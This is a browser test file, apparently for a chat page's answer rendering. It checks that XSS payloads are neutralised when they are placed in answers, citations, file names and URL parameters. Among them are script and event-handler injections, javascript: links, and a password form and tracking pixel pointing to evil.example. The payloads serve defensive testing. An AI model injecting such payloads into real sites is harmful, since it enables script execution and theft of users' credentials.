import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser } from "./browser.ts";
import { askOnPage, dropFiles, keepScreen, openPage } from "./page-under-test.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

const ATTACK = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><svg onload="window.hacked=1">';

const ANSWER = `${ATTACK}

[a link](javascript:window.hacked=1) [another](data:text/html,<script>window.hacked=1</script>) [a true one](https://example.com/)

![tracking](https://evil.example/pixel.png?secret=1)

<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>Go</button></form>
<a href="https://example.com" onclick="window.hacked=1" style="position:fixed;inset:0" id="question" class="button">over everything</a>
<style>body{display:none}</style><base href="https://evil.example/"><object data="x"></object><math><mi xlink:href="javascript:1">x</mi></math>

\`\`\`html
${ATTACK}
\`\`\`

- [x] done

H<sub>2</sub>O, one<br>two

Source [1].`;

describe("the page, under attack", () => {
  it("runs nothing of what stands in answers, quotes and the names of files and documents", async () => {
    const web = await openPage(browser);
    const { page, docent, problems } = web;
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await dropFiles(page, [{ name: `${ATTACK}.txt`, type: "text/plain", bytes: Buffer.from("x") }]);
    const turn = await askOnPage(web, ATTACK);
    await docent.show(turn, { state: "reading", detail: ATTACK });
    const [document] = docent.documentsOf(turn);
    const citation = {
      documentId: document?.id ?? "",
      document: ATTACK,
      place: { unit: "line", number: 1 },
      quote: ATTACK,
    } as const;
    await docent.answer(turn, { text: ANSWER, citations: [citation] });
    const answer = page.locator(".message.docent");
    await answer.waitFor();

    const prose = answer.locator(".prose");
    expect(
      await prose
        .locator(
          "img, script, svg, iframe, form, style, base, object, math, button:not(.cite), [onclick], [style], [id]",
        )
        .count(),
    ).toBe(0);
    expect(await prose.locator("input").count()).toBe(1);
    expect(await prose.locator("input").getAttribute("type")).toBe("checkbox");
    expect(await prose.locator("sub").innerText()).toBe("2");
    const links = await prose.locator("a[href]").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect(links).toEqual(["https://example.com/"]);
    for (const link of await prose.locator("a[href]").all()) {
      expect(await link.getAttribute("target")).toBe("_blank");
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
    expect(await page.locator(".message.you .plain").innerText()).toBe(ATTACK);
    await answer.locator(".source").click();
    await page.locator(".viewer pre").waitFor();
    await keepScreen(page, "attack");

    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(requests.filter((url) => !url.startsWith(web.server.origin))).toEqual([]);
    expect(problems).toEqual([]);
  });

  it("takes no channel's name from the address that is not one", async () => {
    const web = await openPage(browser, { at: `/?channel=${encodeURIComponent(ATTACK)}` });
    expect(await web.page.locator("#channel-name").innerText()).toBe("general");
    expect(await web.page.evaluate(() => "hacked" in window)).toBe(false);
    await web.page.goto(`${web.server.origin}/#%E0%A4%A`);
    await web.page.waitForSelector("body[data-ready]");
    expect(web.problems).toEqual([]);
  });

  it("would not run an attack that came through: the policy forbids it", async () => {
    const { page, problems } = await openPage(browser);
    await page.evaluate(() => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.hacked = 1");
      document.body.append(button);
      button.click();
    });
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(problems.join()).toContain("Content Security Policy");
  });

  it("shows a posted HTML file as its source when it is opened in a tab", async () => {
    const web = await openPage(browser);
    await dropFiles(web.page, [
      { name: "page.html", type: "text/html", bytes: Buffer.from("<script>document.title='hacked'</script>") },
    ]);
    const turn = await askOnPage(web, "Read it");
    const [document] = web.docent.documentsOf(turn);
    await web.page.goto(`${web.server.origin}/api/documents/${document?.id}/content`);
    expect(await web.page.locator("body").innerText()).toContain("<script>");
    expect(await web.page.title()).not.toBe("hacked");
  });
});
